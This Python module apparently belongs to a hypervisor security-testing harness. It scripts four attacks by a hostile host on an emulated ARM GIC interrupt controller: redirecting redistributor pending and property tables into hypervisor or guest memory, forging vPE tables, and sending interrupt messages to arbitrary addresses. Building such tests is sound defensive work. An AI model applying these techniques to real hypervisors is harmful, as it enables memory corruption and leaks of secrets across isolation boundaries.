"""Attacks through redistributors and messages: A8, A9, A10, A11.

The series does not look at redistributors. Their registers take raw addresses, and hardware writes pending bits there.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from itsbox.arch.its_commands import INT, MAPC, MAPTI, SYNC, VMAPP_V41, VMAPTI
from itsbox.arch.its_registers import TABLE_VPES
from itsbox.arch.its_tables import VTE_V41
from itsbox.arch.redist_registers import (
    GICR_CTLR,
    GICR_PENDBASER,
    GICR_PROPBASER,
    GICR_VPENDBASER,
    GICR_VPENDBASER_V41,
    GICR_VPROPBASER,
    GICR_VPROPBASER_V41,
)
from itsbox.arch.values import FIRST_LPI, SIZE_64K
from itsbox.host.attacks import CannotBePlayed

if TYPE_CHECKING:
    from itsbox.host.attacks import HostileHost

__all__ = [
    "message_anywhere", "pending_table_in_hyp", "property_table_in_hyp", "resident_anywhere", "vpe_table_forged",
]  # fmt: skip

_DEVICE: Final = 0xC0
_LPI: Final = FIRST_LPI + 9
_CPU: Final = 1


def _armed_event(host: HostileHost, device_id: int, intid: int = _LPI, icid: int = _CPU) -> None:
    """Map a device and an event of it, honestly, targeting a CPU."""
    host.map_own(device_id)
    host.post(MAPTI(device_id=device_id, event_id=0, intid=intid, icid=icid))


def _lpis(host: HostileHost, enabled: bool, cpu: int = _CPU) -> None:
    """Write GICR_CTLR.EnableLPIs of a CPU."""
    host.write(host.gicr(GICR_CTLR, cpu), int(enabled), 4)


def pending_table_in_hyp(host: HostileHost) -> None:
    """A8: GICR_PENDBASER names hypervisor memory; each LPI sets a bit there."""
    victim = host.hyp_page(11)
    at = victim + _LPI // 8
    host.say("Map an event that targets CPU 1.")
    _armed_event(host, _DEVICE)
    host.show("The victim: the byte with the LPI's bit, before.", at, 4)
    host.say("Switch LPIs of CPU 1 off, name the hypervisor's memory as its pending table, and switch them on.")
    _lpis(host, False)
    value = GICR_PENDBASER.decode(host.read(host.gicr(GICR_PENDBASER, _CPU)))
    host.write(host.gicr(GICR_PENDBASER, _CPU), value.replace(physical_address=victim).word())
    _lpis(host, True)
    host.say("Also while LPIs are on, where the register is not frozen then.")
    host.write(host.gicr(GICR_PENDBASER, _CPU), value.replace(physical_address=victim).word())
    host.say("Make the LPI pending, by command and by message, and take it: the bit is set and cleared.")
    host.post(INT(device_id=_DEVICE, event_id=0))
    host.show("The same byte, with the LPI pending.", at, 4)
    host.msi(_DEVICE, 0)
    host.ack(_CPU)
    _lpis(host, False)


def property_table_in_hyp(host: HostileHost) -> None:
    """A9: GICR_PROPBASER names secret memory; whether an LPI is delivered tells a bit of each byte."""
    secret = host.guest_page(4)
    _armed_event(host, _DEVICE + 1, _LPI + 1)
    value = GICR_PROPBASER.decode(host.read(host.gicr(GICR_PROPBASER, _CPU)))
    host.say("Name a guest's memory as the LPI configuration table of every CPU, with LPIs off, then switch them on.")
    cpus = range(len(host.known.cpus))
    for cpu in cpus:
        _lpis(host, False, cpu)
    for enabled in (True, False):  # once before, and once after, where the register is not frozen
        for cpu in cpus:
            host.write(host.gicr(GICR_PROPBASER, cpu), value.replace(physical_address=secret).word())
            _lpis(host, enabled, cpu)
    for cpu in cpus:
        _lpis(host, True, cpu)
    host.say("Make an LPI pending and try to take it: bit 0 of a secret byte decides.")
    host.post(INT(device_id=_DEVICE + 1, event_id=0))
    host.ack(_CPU)
    host.show("The byte that was asked for.", secret + _LPI + 1 - FIRST_LPI, 4)


def resident_anywhere(host: HostileHost) -> None:
    """GICv4.0: GICR_VPENDBASER takes the address of the resident vPE's pending table as it is."""
    host.needs_virtual()
    if host.typer.vmapp:
        raise CannotBePlayed("GICR_VPENDBASER holds a vPEID on GICv4.1, no address: take profile virt-gicv4")
    victim = host.hyp_page(12)
    _map_vpe(host, vpe_id=3, vpt=host.pages(16, SIZE_64K))
    host.say(
        "Make a vPE resident whose pending table is hypervisor memory: two raw addresses, written at each vCPU load."
    )
    prop = GICR_VPROPBASER.decode(0).replace(id_bits=15, physical_address=host.pages(16, SIZE_64K))
    host.write(host.gicr(GICR_VPROPBASER, _CPU), prop.word())
    pend = GICR_VPENDBASER.decode(0).replace(physical_address=victim, valid=1)
    host.write(host.gicr(GICR_VPENDBASER, _CPU), pend.word())
    host.say("A virtual interrupt for it: its bit lands in whatever table is resident. Then take the vPE off.")
    host.post(VMAPTI(device_id=_DEVICE + 4, event_id=1, vpe_id=3, virtual_intid=FIRST_LPI + 5, doorbell_intid=1023))
    host.post(INT(device_id=_DEVICE + 4, event_id=1))
    host.write(host.gicr(GICR_VPENDBASER, _CPU), pend.replace(valid=0).word())
    host.show("The victim, after.", victim + FIRST_LPI // 8, 16)


def _map_vpe(host: HostileHost, vpe_id: int, vpt: int) -> None:
    host.say("Map a vPE honestly.")
    host.map_own(_DEVICE + 4)
    host.vmapp(vpe_id, vpt)


def vpe_table_forged(host: HostileHost) -> None:
    """A10: GICR_VPROPBASER names a vPE table of the host's making, GICR_VPENDBASER an entry of it (GICv4.1)."""
    host.needs_virtual()
    if not host.typer.vmapp:
        raise CannotBePlayed("GICR_VPROPBASER names no vPE table before GICv4.1: take profile virt-gicv4.1")
    victim = host.hyp_page(12)
    table = host.pages(16, SIZE_64K)
    host.say("Write a vPE table entry whose pending table is hypervisor memory.")
    entry = VTE_V41(
        valid=1,
        vpt_size=15,
        rd_base=_CPU,
        vpt_addr=victim,
        vconf_addr=host.pages(16, SIZE_64K),
        default_doorbell=1023,
        its_map=1,
    )
    host.store(table + 3 * VTE_V41.SIZE, VTE_V41.STRUCT.pack(*entry.encode()))
    host.say("Name that table to the redistributor and make vPE 3 of it resident.")
    prop = GICR_VPROPBASER_V41.decode(0).replace(physical_address=table, size=0, page_size=2, valid=1)
    host.write(host.gicr(GICR_VPROPBASER_V41, _CPU), prop.word())
    pend = GICR_VPENDBASER_V41.decode(0).replace(vpe_id=3, valid=1)
    host.write(host.gicr(GICR_VPENDBASER_V41, _CPU), pend.word())
    host.say("Map vPE 3 with the same pending table for the ITS as well, and take it off the processor again.")
    host.cover(TABLE_VPES, 3)
    host.post(VMAPP_V41(
        alloc=1, ptz=0, vconf_addr=host.pages(16, SIZE_64K), default_doorbell=1023, vpe_id=3, rd_base=_CPU, valid=1,
        vpt_size=15, vpt_addr=victim,
    ))  # fmt: skip
    host.write(host.gicr(GICR_VPENDBASER_V41, _CPU), pend.replace(valid=0).word())
    host.show("The victim, after.", victim + FIRST_LPI // 8, 16)


def message_anywhere(host: HostileHost) -> None:
    """A11: MAPC names an arbitrary address as redistributor (PTA = 1): SYNC and each interrupt send a message there."""
    if not host.typer.pta:
        raise CannotBePlayed("RDbase is a processor number here (GITS_TYPER.PTA is 0): take profile virt-gicv3-pta")
    targets = (host.hyp_page(13), host.box.map.gicd, host.box.map.gicr + 0x1_0000)
    for n, target in enumerate(targets):
        host.say(f"Map a collection to {target:#x}, which is no redistributor, and address it.")
        host.post(MAPC(icid=8 + n, rd_base=target >> 16, valid=1), SYNC(rd_base=target >> 16))
        _armed_event(host, _DEVICE + 8 + n, _LPI + 8 + n, 8 + n)
        host.post(INT(device_id=_DEVICE + 8 + n, event_id=0))
